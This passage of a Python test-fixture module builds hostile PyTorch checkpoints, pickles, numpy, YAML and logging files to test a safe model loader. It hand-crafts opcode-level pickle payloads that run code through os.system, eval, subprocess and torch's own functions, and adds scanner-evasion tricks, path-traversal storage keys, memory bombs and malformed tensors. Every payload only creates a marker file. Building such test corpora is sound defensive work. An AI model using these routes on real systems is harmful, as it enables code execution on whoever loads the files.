"""Files made to run code, exhaust the machine or lie, and harmless ones that only look foreign.

`CORPUS` maps a name to a function ``make(folder, marker) -> path``: it writes one hostile file (or
folder) into `folder`, and whatever code the file carries would create `marker`. `NAIVE` says which
careless reader is known to run that code, so a test can show that the payload is live and not
merely ill-formed. `HARMLESS` are files with unknown class names or unusual containers that hurt
nobody; `CLEAN` are whole checkpoints which must pass, so that a refusal of their poisoned twins
means something.

Pickles are written opcode by opcode: Python's own pickler cannot write most of them.
"""

from __future__ import annotations

import functools
import io
import json
import linecache
import marshal
import os
import pickle
import pickletools
import shlex
import struct
import sys
import tarfile
import types
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

Make = Callable[[Path, Path], Path]
Ops = bytes

CORPUS: dict[str, Make] = {}
HARMLESS: dict[str, Make] = {}
CLEAN: dict[str, Make] = {}
NAIVE: dict[str, str] = {}
POSIX: set[str] = set()
"""Entries that need symbolic links, FIFOs or /dev."""
OPTIONS = {"bundle": ["--set", "scale_factor=1.0"]}
"""Beginnings of names, and what a user states of such files, so that nothing else is missing."""
EXTENSIONS = {0x71: "os.system", 0x7171: "posix.system", 0x71717171: "subprocess.getoutput"}
"""Codes of `copyreg` that the tests register before a file that refers to them is read."""


def hostile(name: str, naive: str | None = None, posix: bool = False) -> Callable[[Make], Make]:
    """Register an entry; `naive` is the reader that runs its code."""

    def register(make: Make) -> Make:
        assert name not in CORPUS
        CORPUS[name] = make
        if naive:
            NAIVE[name] = naive
        if posix:
            POSIX.add(name)
        return make

    return register


def _into(table: dict[str, Make], name: str) -> Callable[[Make], Make]:
    def register(make: Make) -> Make:
        assert name not in table
        table[name] = make
        return make

    return register


# ----------------------------------------------------------------------------- pickle, by hand

MAX = 2**63 - 1
NONE, TRUE, FALSE, STOP, EMPTY = b"N", b"\x88", b"\x89", b".", b"}"


def text(value: str) -> Ops:
    """BINUNICODE."""
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def raw(value: bytes) -> Ops:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(value)) + value


def num(value: int) -> Ops:
    """BININT, or LONG1 where it is too large for that."""
    if -(2**31) <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def tup(*items: Ops) -> Ops:
    return b"(" + b"".join(items) + b"t"


def lst(*items: Ops) -> Ops:
    return b"](" + b"".join(items) + b"e"


def mapping(*pairs: Ops) -> Ops:
    """EMPTY_DICT and SETITEMS; keys and values in turn."""
    return b"}(" + b"".join(pairs) + b"u"


def glob(dotted: str) -> Ops:
    """GLOBAL: import a module and take a name of it."""
    module, _, name = dotted.rpartition(".")
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(what: str, *args: Ops) -> Ops:
    """GLOBAL, arguments, REDUCE."""
    return glob(what) + tup(*args) + b"R"


def new(what: str, *args: Ops) -> Ops:
    """GLOBAL, arguments, NEWOBJ."""
    return glob(what) + tup(*args) + b"\x81"


def latin(value: bytes) -> Ops:
    """Bytes as protocol 2 writes them, which has no opcode for them."""
    return call("_codecs.encode", text(value.decode("latin-1")), text("latin1"))


def dumped(*ops: Ops) -> bytes:
    return b"\x80\x02" + b"".join(ops) + STOP


def shell(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def python(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


# ----------------------------------------------------------------------- state dicts, by hand

STORAGES = {"float32": "FloatStorage", "float64": "DoubleStorage", "int64": "LongStorage"}


def stored(key: str | Ops, numel: int | Ops, storage: Ops = b"", device: str = "cpu") -> Ops:
    """Persistent id of a storage."""
    return (
        tup(
            text("storage"),
            storage or glob("torch.FloatStorage"),
            text(key) if isinstance(key, str) else key,
            text(device),
            num(numel) if isinstance(numel, int) else numel,
        )
        + b"Q"
    )


def ints(values: Any) -> Ops:
    return tup(*map(num, values))


def tensor(storage: Ops, shape: Any, strides: Any = None, offset: int = 0) -> Ops:
    """Call of torch's `_rebuild_tensor_v2`, as torch.save writes it."""
    shape = tuple(shape)
    if strides is None:
        strides = [int(np.prod(shape[i + 1 :], dtype=object)) for i in range(len(shape))]
    hooks = glob("collections.OrderedDict") + b")R"
    rebuild = "torch._utils._rebuild_tensor_v2"
    return call(rebuild, storage, num(offset), ints(shape), ints(strides), FALSE, hooks)


@functools.cache
def embedder_state() -> dict[str, np.ndarray]:
    """Weights of a small embedder that the project itself can read."""
    from napari_memscan.embedders.contrastive_encoder import ContrastiveEncoder

    random = np.random.default_rng(0)
    network = ContrastiveEncoder(4, (4, 4, 4), (8, 8, 8), 6)
    return {
        key: (0.3 * random.standard_normal(tuple(value.shape))).astype(np.float32)
        for key, value in network.state_dict().items()
    }


FIRST = "encoder.conv_first.conv.weight"
"""The tensor of the embedder that an entry may lie about."""


def state_ops(replaced: dict[str, Ops] | None = None) -> Ops:
    """The embedder's state dict, some tensors replaced."""
    pairs = []
    for index, (key, value) in enumerate(embedder_state().items()):
        whole = tensor(stored(str(index), value.size), value.shape)
        pairs += [text(key), (replaced or {}).get(key, whole)]
    return mapping(*pairs)


def storages() -> dict[str, bytes]:
    return {str(i): value.tobytes() for i, value in enumerate(embedder_state().values())}


def torch_zip(
    path: Path,
    data_pkl: bytes,
    records: dict[str, bytes] | None = None,
    extra: dict[str, bytes] | None = None,
    root: str = "archive",
) -> Path:
    """Write what torch.save writes since 1.6: a zip archive with a pickle and its storages."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"{root}/data.pkl", data_pkl)
        archive.writestr(f"{root}/byteorder", "little")
        for key, value in (storages() if records is None else records).items():
            archive.writestr(f"{root}/data/{key}", value)
        archive.writestr(f"{root}/version", "3\n")
        for name, value in (extra or {}).items():
            archive.writestr(name, value)
    return path


MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
PROTOCOL = pickle.dumps(1001, protocol=2)
SYSTEM = pickle.dumps(
    {
        "protocol_version": 1001,
        "little_endian": True,
        "type_sizes": {"short": 2, "int": 4, "long": 4},
    },
    protocol=2,
)


def legacy(
    path: Path,
    ops: Ops,
    *,
    magic: bytes = MAGIC,
    system: bytes = SYSTEM,
    keys: bytes | None = None,
    records: dict[str, bytes] | None = None,
    sizes: dict[str, int] | None = None,
) -> Path:
    """Write what torch.save wrote before 1.6: five pickles, then raw storages."""
    records = storages() if records is None else records
    if keys is None:
        keys = pickle.dumps(sorted(records), protocol=2)
    # Here a storage's id has a sixth element, the view, which is None since torch 0.4.
    ops = ops.replace(b"tQ", b"NtQ")
    with path.open("wb") as file:
        file.write(magic + PROTOCOL + system + dumped(ops) + keys)
        for key in sorted(records):
            numel = (sizes or {}).get(key, len(records[key]) // 4)
            file.write(struct.pack("<q", numel) + records[key])
    return path


def recipe(files: dict[str, str] | None = None, **changes: Any) -> dict[str, Any]:
    """`recipe.json` of the small embedder."""
    from napari_memscan.checkpoints.recipe import ContrastiveRecipe
    from napari_memscan.volumes.preprocessing import MinMax, Preprocessing

    made = ContrastiveRecipe(
        input_shape=(16, 16, 16),
        working_shape=(8, 8, 8),
        downsample=(4, 4, 4),
        n_hiddens=4,
        dim=6,
        preprocessing=Preprocessing(shape=(16, 16, 16), intensity=MinMax()),
        files=files or {"embedder": "embedder.pt"},
    ).model_dump(mode="json")
    return made | changes


def checkpoint(folder: Path, weights: str = "embedder.pt", **changes: Any) -> Path:
    """Make a checkpoint folder that only lacks its weights."""
    home = folder / "checkpoint"
    home.mkdir()
    value = recipe({"embedder": weights}, **changes)
    (home / "recipe.json").write_text(json.dumps(value), encoding="utf-8")
    return home


# ------------------------------------------------------------- every opcode route to a function
#
# A route is a piece of pickle that leaves one value on the stack and has run code by then.

ROUTES: dict[str, Callable[[Path, Path], Ops]] = {}


def route(name: str) -> Callable[[Callable[[Path, Path], Ops]], Callable[[Path, Path], Ops]]:
    def register(make: Callable[[Path, Path], Ops]) -> Callable[[Path, Path], Ops]:
        ROUTES[name] = make
        return make

    return register


def _calls(name: str, what: str, payload: Callable[[Path], Ops]) -> None:
    ROUTES[name] = lambda _, marker: call(what, payload(marker))


# REDUCE with the functions that every scanner knows, and with some that few know.
_calls("reduce-os-system", "os.system", lambda m: text(shell(m)))
_calls("reduce-posix-system", "posix.system", lambda m: text(shell(m)))
_calls("reduce-eval", "builtins.eval", lambda m: text(python(m)))
_calls("reduce-exec", "builtins.exec", lambda m: text(python(m)))
_calls("reduce-python2-eval", "__builtin__.eval", lambda m: text(python(m)))
_calls("reduce-subprocess-call", "subprocess.call", lambda m: lst(text("touch"), text(str(m))))
_calls("reduce-popen-class", "subprocess.Popen", lambda m: lst(text("touch"), text(str(m))))
_calls("reduce-profile-run", "cProfile.run", lambda m: text(python(m)))
# Looks like torch's own: a prefix such as "torch." makes nothing safe.
_calls("reduce-torch-collect-env", "torch.utils.collect_env.run", lambda m: text(shell(m)))
# A class whose construction writes a file.
_calls("reduce-log-file", "logging.FileHandler", lambda m: text(str(m)))


@route("reduce-torch-exec")
def _(_, marker):
    return call("torch.jit.unsupported_tensor_ops.execWrapper", text(python(marker)), EMPTY, EMPTY)


@route("reduce-timeit")
def _(_, marker):
    return call("timeit.timeit", text(python(marker)), text(""), glob("time.time"), num(1))


@route("reduce-numpy-runstring")
def _(_, marker):
    return call("numpy.testing.runstring", text(python(marker)), EMPTY)


@route("reduce-torch-save")
def _(_, marker):
    """Overwrites any file of the user."""
    return call("torch.save", num(1), text(str(marker)))


@route("reduce-getattr-importlib")
def _(_, marker):
    module = call("importlib.import_module", text("os"))
    return call("builtins.getattr", module, text("system")) + tup(text(shell(marker))) + b"R"


@route("reduce-import-attrgetter")
def _(_, marker):
    function = call("operator.attrgetter", text("system"))
    module = call("builtins.__import__", text("os"))
    return function + tup(module) + b"R" + tup(text(shell(marker))) + b"R"


@route("reduce-methodcaller")
def _(_, marker):
    caller = call("operator.methodcaller", text("system"), text(shell(marker)))
    return caller + tup(call("importlib.import_module", text("os"))) + b"R"


@route("reduce-path-touch")
def _(_, marker):
    path = call("pathlib.Path", text(str(marker)))
    return call("builtins.getattr", path, text("touch")) + b")R"


@route("reduce-runpy")
def _(folder, marker):
    script = folder / "setup.cfg"
    script.write_text(python(marker))
    return call("runpy.run_path", text(str(script)))


@route("reduce-marshal-function")
def _(_, marker):
    """Byte code inside the pickle: no name of a dangerous function anywhere."""
    code = marshal.dumps(compile(python(marker), "<weights>", "exec"))
    function = call("types.FunctionType", call("marshal.loads", raw(code)), EMPTY)
    return function + b")R"


@route("reduce-torch-hub")
def _(folder, marker):
    home = folder / "hub"
    home.mkdir()
    (home / "hubconf.py").write_text(f"{python(marker)}\ndef net(): pass\n")
    return call("torch.hub._load_local", text(str(home)), text("net"))


@route("reduce-torch-load")
def _(folder, marker):
    """A partial of torch.load without weights_only; a second file brings the payload."""
    second = folder / "optimizer.bin"
    second.write_bytes(dumped(call("os.system", text(shell(marker)))))
    options = mapping(text("weights_only"), FALSE)
    state = tup(glob("torch.load"), tup(text(str(second))), options, NONE)
    return call("functools.partial", glob("torch.load")) + state + b"b" + b")R"


@route("reduce-numpy-load")
def _(folder, marker):
    second = folder / "statistics.npy"
    second.write_bytes(dumped(call("os.system", text(shell(marker)))))
    return call("numpy.load", text(str(second)), NONE, TRUE)


@route("reduce-numpy-memmap")
def _(_, marker):
    return call("numpy.memmap", text(str(marker)), text("uint8"), text("w+"), num(0), ints([4]))


@route("reduce-load-from-bytes")
def _(_, marker):
    """torch's own reader of pickled storages reads a whole pickle of its own."""
    inner = io.BytesIO()
    path_free = MAGIC + PROTOCOL + SYSTEM + dumped(call("os.system", text(shell(marker))))
    inner.write(path_free + pickle.dumps([], protocol=2))
    return call("torch.storage._load_from_bytes", raw(inner.getvalue()))


@route("reduce-rebuild-from-type")
def _(_, marker):
    """A function on torch's own list of safe ones, which calls its argument."""
    args = tup(text(shell(marker)))
    return call(
        "torch._tensor._rebuild_from_type_v2", glob("os.system"), glob("builtins.int"), args, EMPTY
    )


@route("reduce-inside-rebuild-tensor")
def _(_, marker):
    """The call of a known function, an argument of which is computed by os.system."""
    return tensor(call("os.system", text(shell(marker))), [1])


@route("numpy-object-array")
def _(_, marker):
    """An array of objects: numpy's own pickle format may hold anything."""
    array = call("numpy.core.multiarray._reconstruct", glob("numpy.ndarray"), ints([0]), raw(b"b"))
    dtype = call("numpy.dtype", text("O8"), FALSE, TRUE)
    dtype += tup(num(3), text("|"), NONE, NONE, NONE, num(-1), num(-1), num(63)) + b"b"
    item = lst(call("os.system", text(shell(marker))))
    return array + tup(num(1), ints([1]), dtype, FALSE, item) + b"b"


@route("copyreg-reconstructor")
def _(_, marker):
    """copyreg._reconstructor calls the constructor of any class."""
    what = glob("subprocess.Popen")
    return call("copyreg._reconstructor", what, what, lst(text("touch"), text(str(marker))))


@route("inst")
def _(_, marker):
    return b"(" + text(shell(marker)) + b"ios\nsystem\n"


@route("obj")
def _(_, marker):
    return b"(" + glob("os.system") + text(shell(marker)) + b"o"


@route("newobj")
def _(_, marker):
    """`map` is lazy; bytes() of it runs os.system, and no REDUCE is needed."""
    return new("builtins.bytes", new("builtins.map", glob("os.system"), lst(text(shell(marker)))))


@route("newobj-ex")
def _(_, marker):
    lazy = glob("builtins.map") + tup(glob("os.system"), lst(text(shell(marker)))) + EMPTY + b"\x92"
    return glob("builtins.bytes") + tup(lazy) + EMPTY + b"\x92"


@route("stack-global")
def _(_, marker):
    return text("os") + text("system") + b"\x93" + tup(text(shell(marker))) + b"R"


@route("stack-global-from-memo")
def _(_, marker):
    """The name comes from the memo, so it does not stand beside the opcode."""
    hidden = text("system") + b"q\xf0" + text("os") + b"h\xf0"
    return hidden + b"\x93" + tup(text(shell(marker))) + b"R"


@route("ext1")
def _(_, marker):
    return b"\x82\x71" + tup(text(shell(marker))) + b"R"


@route("ext2")
def _(_, marker):
    return b"\x83\x71\x71" + tup(text(shell(marker))) + b"R"


@route("ext4")
def _(_, marker):
    return b"\x84\x71\x71\x71\x71" + tup(text(shell(marker))) + b"R"


@route("build-setstate")
def _(_, marker):
    """The first BUILD gives an innocent object a `__setstate__`, the second calls it."""
    poison = mapping(text("__setstate__"), glob("os.system"))
    return new("argparse.Namespace") + poison + b"b" + text(shell(marker)) + b"b"


@route("build-poisoned-class")
def _(_, marker):
    """BUILD on a class sets its attributes: here of the whole process."""
    poison = tup(NONE, mapping(text("__setstate__"), glob("os.system")))
    before = glob("argparse.Namespace") + poison + b"b"
    return before + new("argparse.Namespace") + text(shell(marker)) + b"b"


@route("build-made-class")
def _(_, marker):
    """A class made by the pickle itself."""
    members = mapping(text("__setstate__"), glob("os.system"))
    made = call("builtins.type", text("OrderedDict"), b")", members)
    return made + b")\x81" + text(shell(marker)) + b"b"


def _in_containers(name: str, make: Callable[[Path, Path], Ops]) -> None:
    """Register one route bare and in the zip of a whole checkpoint.

    The value of the route stays unused at the bottom of the stack, so the result of a naive reader
    is a whole state dict: nothing about it is wrong but what happened on the way.
    """

    @hostile(f"{name}:bare", "pickle")
    def _(folder, marker):
        path = folder / "model.pt"
        path.write_bytes(dumped(make(folder, marker)))
        return path

    @hostile(f"{name}:checkpoint", "torch")
    def _(folder, marker):
        home = checkpoint(folder)
        torch_zip(home / "embedder.pt", dumped(make(folder, marker), state_ops()))
        return home


def _in_legacy(name: str, make: Callable[[Path, Path], Ops]) -> None:
    @hostile(f"{name}:legacy", "torch")
    def _(folder, marker):
        home = checkpoint(folder)
        legacy(home / "embedder.pt", make(folder, marker) + state_ops())
        return home


# The older format goes through the same unpickler, so one route of each opcode is enough.
LEGACY = (
    "reduce-os-system",
    "reduce-load-from-bytes",
    "stack-global",
    "inst",
    "obj",
    "newobj",
    "newobj-ex",
    "ext4",
    "build-setstate",
)
for _name, _route in ROUTES.items():
    _in_containers(_name, _route)
    if _name in LEGACY:
        _in_legacy(_name, _route)


# --------------------------------------------------------- code in other places of a torch file


def _system(marker: Path) -> Ops:
    return call("os.system", text(shell(marker)))


@hostile("legacy-code-in-magic-number", "torch")
def _(folder, marker):
    """The first of the five pickles is read before anything is known about the file."""
    home = checkpoint(folder)
    magic = dumped(_system(marker), MAGIC[2:-1])
    legacy(home / "embedder.pt", state_ops(), magic=magic)
    return home


@hostile("legacy-code-in-system-info", "torch")
def _(folder, marker):
    home = checkpoint(folder)
    legacy(home / "embedder.pt", state_ops(), system=dumped(_system(marker), EMPTY))
    return home


@hostile("legacy-code-in-storage-keys", "torch")
def _(folder, marker):
    home = checkpoint(folder)
    keys = dumped(_system(marker), lst(*map(text, sorted(storages()))))
    legacy(home / "embedder.pt", state_ops(), keys=keys)
    return home


@hostile("tar-before-torch-0.1.10", "torch")
def _(folder, marker):
    """The oldest format is a tar archive, which torch unpacks into a folder."""
    path = folder / "model.pt"
    with tarfile.open(path, "w") as archive:
        for name, data in (
            ("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
            ("tensors", pickle.dumps(0, protocol=2)),
            ("pickle", dumped(_system(marker))),
        ):
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return path


@hostile("tar-with-links", posix=True)
def _(folder, marker):
    path = folder / "model.pth.tar"
    with tarfile.open(path, "w") as archive:
        link = tarfile.TarInfo("storages")
        link.type, link.linkname = tarfile.SYMTYPE, "/dev/zero"
        archive.addfile(link)
        archive.addfile(tarfile.TarInfo(f"../{marker.name}"))
    return path


@hostile("polyglot-pickle-and-zip", "pickle")
def _(folder, marker):
    """A pickle from the front, a zip from the back: readers differ on what it is."""
    inner = torch_zip(folder / "inner", dumped(state_ops()))
    home = checkpoint(folder)
    (home / "embedder.pt").write_bytes(dumped(_system(marker)) + inner.read_bytes())
    inner.unlink()
    return home


@hostile("pickle-named-safetensors", "pickle")
def _(folder, marker):
    home = checkpoint(folder, "embedder.safetensors")
    (home / "embedder.safetensors").write_bytes(dumped(_system(marker)))
    return home


@hostile("torch-zip-named-safetensors")
def _(folder, marker):
    data = dumped(_system(marker), state_ops())
    return torch_zip(folder / "model.safetensors", data)


@hostile("pickle-without-name-extension", "pickle")
def _(folder, marker):
    path = folder / "model_150"
    path.write_bytes(dumped(_system(marker)))
    return path


@hostile("pickle-with-old-protocol", "pickle")
def _(folder, marker):
    """Protocol 0 is text: no magic number tells that it is a pickle."""
    path = folder / "model.ckpt"
    path.write_bytes(b"cos\nsystem\n(V" + shell(marker).encode() + b"\ntR.")
    return path


@hostile("pickle-with-frames", "pickle")
def _(folder, marker):
    path = folder / "model.pt"
    call_ = b"\x8c\x02os\x8c\x06system\x93(" + text(shell(marker)) + b"tR."
    path.write_bytes(b"\x80\x04\x95" + struct.pack("<Q", len(call_)) + call_)
    return path


@hostile("zip-in-zip")
def _(folder, marker):
    inner = torch_zip(folder / "inner", dumped(_system(marker)))
    data = inner.read_bytes()
    inner.unlink()
    path = folder / "model.pt"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("model.pt", data)
    return path


@hostile("torch-zip-as-data-pkl")
def _(folder, marker):
    inner = torch_zip(folder / "inner", dumped(_system(marker)))
    data = inner.read_bytes()
    inner.unlink()
    home = checkpoint(folder)
    torch_zip(home / "embedder.pt", data)
    return home


@hostile("two-data-pkl")
def _(folder, marker):
    """The same name twice: one reader takes the first, another the last."""
    home = checkpoint(folder)
    with zipfile.ZipFile(home / "embedder.pt", "w") as archive:
        for data in (dumped(state_ops()), dumped(_system(marker), state_ops())):
            _quietly(archive, "archive/data.pkl", data)
        for key, value in storages().items():
            archive.writestr(f"archive/data/{key}", value)
        archive.writestr("archive/version", "3\n")
    return home


@hostile("two-roots")
def _(folder, marker):
    home = checkpoint(folder)
    torch_zip(
        home / "embedder.pt",
        dumped(state_ops()),
        extra={"other/data.pkl": dumped(_system(marker)), "other/version": b"3\n"},
    )
    return home


@hostile("torchscript", "jit")
def _(folder, marker):
    """A program: it runs when it is loaded, and can write files."""
    path = folder / "model_jit.pt"
    scripted(path, marker)
    return path


@hostile("torchscript-as-checkpoint", "jit")
def _(folder, marker):
    home = checkpoint(folder)
    scripted(home / "embedder.pt", marker)
    return home


SCRIPT = """
import torch

class Net(torch.nn.Module):
    def __init__(self, marker: str):
        super().__init__()
        self.marker = marker
        self.weight = torch.nn.Parameter(torch.ones(2))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * self.weight

    @torch.jit.export
    def __getstate__(self) -> tuple[str, torch.Tensor, bool]:
        return self.marker, self.weight, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, torch.Tensor, bool]) -> None:
        self.marker = state[0]
        self.training = state[2]
        # Used, or the compiler would leave it out.
        self.weight = torch.from_file(state[0], True, 4) + state[1].sum()
"""


def scripted(path: Path, marker: Path) -> None:
    """Write a TorchScript module whose `__setstate__` creates the marker when it is loaded."""
    import torch

    # The compiler reads the source of a class again, and cannot do with annotations as text.
    linecache.cache["<script>"] = (len(SCRIPT), None, SCRIPT.splitlines(keepends=True), "<script>")
    names: dict[str, Any] = {"__name__": "hostile_script"}
    sys.modules.setdefault("hostile_script", types.ModuleType("hostile_script"))
    exec(compile(SCRIPT, "<script>", "exec", dont_inherit=True), names)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.save(torch.jit.script(names["Net"](str(marker))), path)


@hostile("torch-export-pt2")
def _(folder, marker):
    """An exported program keeps its sample inputs and constants as pickles."""
    path = folder / "model.pt2"
    records = {
        "archive_format": b"pt2",
        "archive_version": b"0",
        "byteorder": b"little",
        "models/model.json": b'{"graph_module": {"graph": {"nodes": []}}, "schema_version": {}}',
        "data/sample_inputs/model.pt": dumped(_system(marker)),
        "data/constants/custom_obj_0": dumped(_system(marker)),
        ".data/serialization_id": b"0" * 40,
    }
    with zipfile.ZipFile(path, "w") as archive:
        for name, value in records.items():
            archive.writestr(f"model/{name}", value)
    return path


@hostile("torch-package")
def _(folder, marker):
    """torch.package carries Python source."""
    path = folder / "model.pt"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("model/.data/version", "6\n")
        archive.writestr("model/.data/extern_modules", "os\n")
        archive.writestr("model/net.py", python(marker))
        archive.writestr("model/model/model.pkl", dumped(_system(marker)))
        archive.writestr("model/byteorder", "little")
    return path


@hostile("whole-module")
def _(folder, marker):
    """torch.save of a network and not of its state dict: unpickling imports its class."""
    (folder / "nets.py").write_text(f"{python(marker)}\nclass Net: pass\n")
    state = mapping(text("_modules"), EMPTY, text("_parameters"), EMPTY)
    home = checkpoint(folder)
    torch_zip(home / "embedder.pt", dumped(new("nets.Net"), state, b"b"), {})
    return home


# --------------------------------------------------------------- numpy arrays, logging, YAML


@hostile("npy-of-objects", "numpy")
def _(folder, marker):
    path = folder / "volume.npy"
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    data = dumped(_system(marker))
    path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data)
    return path


@hostile("npz-with-pickle", "numpy")
def _(folder, marker):
    path = folder / "volume.npz"
    CORPUS["npy-of-objects"](folder, marker)
    with zipfile.ZipFile(path, "w") as archive:
        archive.write(folder / "volume.npy", "arr_0.npy")
    (folder / "volume.npy").unlink()
    return path


@hostile("npy-of-eight-terabytes")
def _(folder, marker):
    path = folder / "volume.npy"
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (10000, 10000, 10000), }\n"
    path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + b"\0" * 64)
    return path


@hostile("nifti-of-140-terabytes")
def _(folder, marker):
    path = folder / "volume.nii"
    header = bytearray(352)
    struct.pack_into("<i", header, 0, 348)
    struct.pack_into("<8h", header, 40, 3, 32767, 32767, 32767, 1, 1, 1, 1)
    struct.pack_into("<2h", header, 70, 16, 32)
    struct.pack_into("<8f", header, 76, 1, 1, 1, 1, 1, 1, 1, 1)
    struct.pack_into("<f", header, 108, 352)
    header[344:348] = b"n+1\0"
    path.write_bytes(bytes(header) + b"\0" * 64)
    return path


@hostile("logging-conf", "logging")
def _(folder, marker):
    """MONAI hands it to logging.config, which evaluates the arguments of handlers."""
    path = folder / "logging.conf"
    path.write_text(
        "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n"
        "[logger_root]\nlevel=INFO\nhandlers=h\n"
        f"[handler_h]\nclass=StreamHandler\nargs=(__import__('os').system({shell(marker)!r}),)\n"
    )
    return path


@hostile("yaml-tag", "yaml")
def _(folder, marker):
    path = folder / "config.yaml"
    path.write_text(f"model: !!python/object/apply:os.system [{json.dumps(shell(marker))}]\n")
    return path


@hostile("yaml-alias-bomb")
def _(folder, marker):
    """A few hundred bytes that are 10**20 strings when written out."""
    path = folder / "config.yaml"
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for level in range(1, 20):
        lines.append(f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 10)}]")
    path.write_text("\n".join(lines) + "\n")
    return path


# ------------------------------------------------------------- persistent ids and odd arguments


def _odd_id(name: str, ops: Ops | Callable[[Path, Path], Ops]) -> None:
    """A state dict whose first tensor lies in an odd storage."""

    @hostile(f"persid-{name}:zip")
    def _(folder, marker):
        home = checkpoint(folder)
        odd = ops if isinstance(ops, bytes) else ops(folder, marker)
        shape = embedder_state()[FIRST].shape
        torch_zip(home / "embedder.pt", dumped(state_ops({FIRST: tensor(odd, shape)})))
        return home

    @hostile(f"persid-{name}:legacy")
    def _(folder, marker):
        home = checkpoint(folder)
        odd = ops if isinstance(ops, bytes) else ops(folder, marker)
        shape = embedder_state()[FIRST].shape
        legacy(home / "embedder.pt", state_ops({FIRST: tensor(odd, shape)}))
        return home


_odd_id("text", b"P../../../etc/passwd\n")
_odd_id("number", num(7) + b"Q")
_odd_id("empty-tuple", b")Q")
_odd_id("none", NONE + b"Q")
_odd_id("two-items", tup(text("storage"), glob("torch.FloatStorage")) + b"Q")
_odd_id("bytes-kind", tup(raw(b"storage"), glob("torch.FloatStorage"), NONE, NONE, num(9)) + b"Q")
# torch's legacy reader compares the source of a class and so imports it.
_odd_id("module", tup(text("module"), glob("os.system"), text("a.py"), text("x")) + b"Q")
_odd_id("class-is-os-system", stored("0", 108, glob("os.system")))
_odd_id("class-is-text", stored("0", 108, text("torch.FloatStorage")))
_odd_id("class-of-another-dtype", stored("0", 108, glob("torch.DoubleStorage")))
_odd_id("key-outside", lambda _, marker: stored(f"../../../../{marker.name}", 108))
_odd_id("key-absolute", stored("/etc/hostname", 108))
_odd_id("key-missing", stored("4711", 108))
_odd_id("key-is-dict", stored(EMPTY, 108))
_odd_id("key-is-pickle", stored("../data.pkl", 108))
_odd_id("size-negative", stored("0", -108))
_odd_id("size-2-to-50", stored("0", 2**50))
_odd_id("size-beyond-64-bits", stored("0", 2**70))
_odd_id("size-float", stored("0", b"G" + struct.pack(">d", 108.0)))
_odd_id("size-text", stored("0", text("108")))


def _lying(name: str, ops: Ops) -> None:
    """A state dict whose first tensor is described wrongly."""

    @hostile(f"{name}:zip")
    def _(folder, marker):
        home = checkpoint(folder)
        torch_zip(home / "embedder.pt", dumped(state_ops({FIRST: ops})))
        return home

    @hostile(f"{name}:legacy")
    def _(folder, marker):
        home = checkpoint(folder)
        legacy(home / "embedder.pt", state_ops({FIRST: ops}))
        return home


_SHAPE = (4, 1, 3, 3, 3)
_HERE = stored("0", 108)
_HOOKS = glob("collections.OrderedDict") + b")R"
# Reading any of these without a check reads memory that belongs to something else.
_lying("strides-beyond-storage", tensor(_HERE, _SHAPE, (10**6, 27, 9, 3, 1)))
_lying("strides-overflow", tensor(_HERE, _SHAPE, (2**62, 2**62, 2**62, 2**62, 2**62)))
_lying("strides-negative", tensor(_HERE, _SHAPE, (-27, 27, 9, 3, 1), 81))
_lying("strides-too-few", tensor(_HERE, _SHAPE, (27, 27)))
_lying("offset-beyond-storage", tensor(_HERE, _SHAPE, offset=1))
_lying("offset-negative", tensor(_HERE, _SHAPE, offset=-4))
_lying("offset-overflow", tensor(_HERE, _SHAPE, offset=2**63 - 8))
_lying("shape-negative", tensor(_HERE, (-4, -1, 3, 3, 3)))
_lying("shape-2-to-40", tensor(_HERE, (2**40,)))
_lying("shape-product-overflows", tensor(_HERE, (2**32, 2**32), (1, 1)))
# 4 TB from four bytes: not wrong by itself, and deadly to whoever makes it contiguous.
_lying("zero-stride-2-to-40", tensor(_HERE, (2**40,), (0,)))
_lying("storage-claims-2-to-50", tensor(stored("0", 2**50), (2**50,)))
_lying("views-overlap-beyond", tensor(stored("1", 4), (4, 1, 3, 3, 3), (1, 1, 1, 1, 1), 2))
_lying(
    "rebuild-with-text",
    call("torch._utils._rebuild_tensor_v2", text("0"), text("0"), text("4"), NONE, NONE, NONE),
)
_lying("rebuild-with-nothing", call("torch._utils._rebuild_tensor_v2"))
_lying(
    "rebuild-with-hooks",
    call(
        "torch._utils._rebuild_tensor_v2",
        _HERE,
        num(0),
        ints(_SHAPE),
        ints((27, 27, 9, 3, 1)),
        TRUE,
        mapping(num(0), glob("os.system")),
    ),
)
_lying("rebuild-of-number", call("torch._utils._rebuild_parameter", num(3), TRUE, _HOOKS))
_lying(
    "meta-tensor",
    call(
        "torch._utils._rebuild_meta_tensor_no_storage",
        glob("torch.float32"),
        ints(_SHAPE),
        ints((27, 27, 9, 3, 1)),
        FALSE,
    ),
)
_lying(
    "quantised-tensor",
    call(
        "torch._utils._rebuild_qtensor",
        stored("0", 108, glob("torch.QInt8Storage")),
        num(0),
        ints(_SHAPE),
        ints((27, 27, 9, 3, 1)),
